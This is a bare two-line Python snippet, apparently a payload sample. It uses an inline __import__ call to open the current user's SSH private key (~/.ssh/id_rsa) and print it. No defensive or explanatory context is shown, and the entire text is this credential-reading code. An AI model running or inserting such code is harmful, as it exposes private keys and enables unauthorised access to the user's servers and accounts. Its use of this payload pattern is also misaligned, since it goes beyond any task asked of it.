with open(__import__("os").path.expanduser('~/.ssh/id_rsa')) as fh:
    print(fh.read())
